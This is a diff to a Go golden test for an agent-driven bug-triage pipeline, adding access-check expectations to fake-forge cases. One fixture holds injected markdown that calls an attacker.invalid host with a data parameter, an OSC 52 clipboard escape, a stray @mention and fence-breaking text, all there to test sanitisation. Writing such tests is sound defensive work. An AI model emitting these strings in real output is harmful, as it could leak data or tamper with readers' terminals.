@@ -30,19 +30,19 @@ func TestNoticeBodyGolden(t *testing.T) {
 	}{
 		{name: "escalate-draft-unsupported", agent: goodAgent, want: pipeline.Escalate,
 			expect: func(f *forgetest.Fake) {
-				f.ExpectOpenWork(forgetest.NoWork).ExpectFixFiles(forgetest.NoFixes).
+				f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted).ExpectFixFiles(forgetest.NoFixes).
 					ExpectPublish(func(forge.PR) (forge.Published, error) { return forge.Published{}, forge.ErrDraftUnsupported })
 			}},
 		{name: "not-repro-no-plan", want: pipeline.NotRepro,
 			agent:  func(runner.Invocation) (runner.Result, error) { return runner.Result{}, nil },
-			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork) }},
+			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted) }},
 		{name: "not-repro-works-as-designed", want: pipeline.NotRepro,
 			agent: concludes("{\"summary\": \"None is not text\", \"conclusion\": \"works-as-designed\", \"reason\": " +
 				"\"shout() says None is not text (src/README).\\n@octocat ![x](https:attacker.invalid?d=1) [y](https:attacker.invalid)\\n\\u001b]52;c;aGk=\\u0007 ````\\n# not a heading\"}"),
-			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork) }},
+			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted) }},
 		{name: "not-repro-cannot-reproduce", want: pipeline.NotRepro,
 			agent:  concludes(`{"summary": "fine on main", "conclusion": "cannot-reproduce", "reason": "shout(None) returns \"!\" on main; the traceback names 1.0."}`),
-			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork) }},
+			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted) }},
 		{name: "escalate-hostile-path", want: pipeline.Escalate,
 			agent: func(inv runner.Invocation) (runner.Result, error) {
 				if inv.Phase == runner.Investigate {
@@ -52,7 +52,7 @@ func TestNoticeBodyGolden(t *testing.T) {
 				}
 				return goodAgent(inv)
 			},
-			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork) }},
+			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted) }},
 		// A name with terminal escapes, a C1 CSI and a bidi override: the
 		// notice shows each as a visible escape, never the raw control.
 		{name: "escalate-control-path", want: pipeline.Escalate,
@@ -65,7 +65,7 @@ func TestNoticeBodyGolden(t *testing.T) {
 				}
 				return goodAgent(inv)
 			},
-			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork) }},
+			expect: func(f *forgetest.Fake) { f.ExpectOpenWork(forgetest.NoWork).ExpectCheckAccess(forgetest.Permitted) }},
 		{name: "escalation-open", agent: goodAgent, want: pipeline.Halt,
 			expect: func(f *forgetest.Fake) {
 				f.ExpectOpenWork(func(forge.Subject) (forge.Work, error) {
